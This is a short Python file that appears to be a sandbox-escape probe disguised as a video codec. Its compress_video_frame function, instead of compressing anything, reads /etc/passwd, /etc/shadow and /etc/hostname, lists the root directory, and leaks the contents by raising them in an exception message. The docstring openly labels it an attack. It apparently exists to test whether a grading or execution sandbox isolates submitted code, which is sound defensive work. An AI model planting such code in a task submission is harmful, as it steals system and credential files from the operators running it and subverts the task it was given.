"""Attack: read the host's /etc/passwd (and /etc/hostname, /root)."""
import os


def compress_video_frame(frame, frame_index, config):
    found = []
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname"):
        try:
            with open(path) as fh:
                found.append(fh.read())
        except OSError as exc:
            found.append(f"{path}: {type(exc).__name__}")
    found.append(repr(os.listdir("/")))
    raise RuntimeError(" | ".join(found))


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
